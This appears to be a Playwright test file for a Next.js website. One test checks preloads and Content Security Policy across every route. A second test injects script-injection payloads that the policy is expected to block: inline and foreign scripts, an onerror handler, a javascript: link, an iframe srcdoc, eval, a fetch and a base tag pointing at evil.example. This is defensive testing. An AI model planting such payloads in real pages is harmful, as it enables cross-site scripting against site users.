import { landingPages } from '../../content/landing-pages';
import { routes } from '../../content/routes';
import {
  expectSameDocument,
  hasAll,
  hydrated,
  idle,
  markDocument,
  preparesNoPages,
  violations,
  watchFaults,
  watchViolations,
} from '../support/page';
import { expect, visit as test } from '../support/test';

declare global {
  interface Window {
    next: { router: { push: (path: string) => void } };
  }
}

test('the first page’s policy holds for a whole visit, over every page', async ({ page }) => {
  test.slow();
  const faults = watchFaults(page);
  await watchViolations(page);
  await preparesNoPages(page);
  await page.goto('/');
  const own = await page.evaluate(() =>
    [...document.querySelectorAll<HTMLLinkElement>('link[rel=preload]')].map(({ href }) => href),
  );
  await hydrated(page);
  await markDocument(page);
  const paths = routes.map(({ path }) => path).filter((path) => path !== '/');
  const used = new Set<string>();
  let clicks = 0;
  for (const path of paths) {
    const link = page.locator(`a[href="${path}"]`).first();
    if ((await link.count()) > 0) {
      await link.evaluate((element: HTMLElement) => element.click());
      clicks += 1;
    } else {
      // The page before does not link it: React's router is asked for it, as a link asks.
      await page.evaluate((to) => window.next.router.push(to), path);
    }
    await page.waitForURL(path);
    await expect(page.locator('h1')).toHaveCount(1);
    await hasAll(page);
    const shown = await page.evaluate(() => [
      ...[...document.images].map(({ currentSrc }) => currentSrc),
      ...[...document.styleSheets].map(({ href }) => href ?? ''),
      ...[...document.scripts].map(({ src }) => src),
    ]);
    for (const file of shown) if (file) used.add(file);
  }
  expect(clicks).toBeGreaterThan(landingPages.length);
  await idle(page);
  await expectSameDocument(page);
  expect(await violations(page)).toEqual([]);
  // Some seconds after its load the browser looks for preloads that nothing has used: just then React may be
  // about to show the page whose picture, style sheet or script one of them is.
  const early = [...used]
    .filter((file) => !own.includes(file)) // what the first page preloads, it uses
    .map((file) => `The resource ${file} was preloaded using link preload`);
  expect(faults.filter((fault) => !early.some((remark) => fault.startsWith(remark)))).toEqual([]);
});

test('what is injected does not run', async ({ page }) => {
  await watchViolations(page);
  await page.goto('/');
  await hydrated(page);
  await page.evaluate(() => {
    const marks: Record<string, boolean> = {};
    Object.assign(window, { marks, mark: (name: string) => (marks[name] = true) });
    const script = document.createElement('script');
    script.textContent = 'window.mark("inline script")';
    document.body.append(script);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    foreign.onload = () => (marks['foreign script'] = true);
    document.body.append(foreign);
    const host = document.createElement('div');
    host.innerHTML =
      '<img src="/none.png" onerror="window.mark(\'handler\')">' +
      '<p id="painted" style="color: rgb(1, 2, 3)">x</p>' +
      '<a id="bad" href="javascript:window.mark(\'javascript address\')">x</a>' +
      '<iframe src="https://evil.example/"></iframe>' +
      '<iframe srcdoc="<script>parent.mark(\'frame\')</script>"></iframe>';
    document.body.append(host);
    document.getElementById('bad')?.click();
    const painted = document.getElementById('painted');
    marks['style attribute'] =
      painted !== null && getComputedStyle(painted).color === 'rgb(1, 2, 3)';
    // Later, on the page's own account: what the debugger evaluates itself may evaluate more.
    setTimeout(() => (marks.eval = Boolean(new Function('return 1')())));
    void fetch('https://evil.example/').then(
      () => (marks['foreign request'] = true),
      () => undefined,
    );
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    marks['base address'] = document.baseURI.includes('evil');
  });
  // What is blocked says so; then nothing is left that could still run.
  for (const blocked of [
    'script-src-elem: inline',
    'script-src-elem: https://evil.example/x.js',
    'script-src-attr: inline',
    'script-src: eval',
    'style-src-attr: inline',
    'frame-src: https://evil.example',
    'connect-src: https://evil.example/',
    'base-uri: https://evil.example/',
  ]) {
    await expect.poll(() => violations(page)).toContain(blocked);
  }
  await idle(page);
  const marks = await page.evaluate(() => Reflect.get(window, 'marks') as Record<string, boolean>);
  expect(Object.keys(marks).sort()).toEqual(['base address', 'style attribute']);
  expect(Object.values(marks)).not.toContain(true);
});
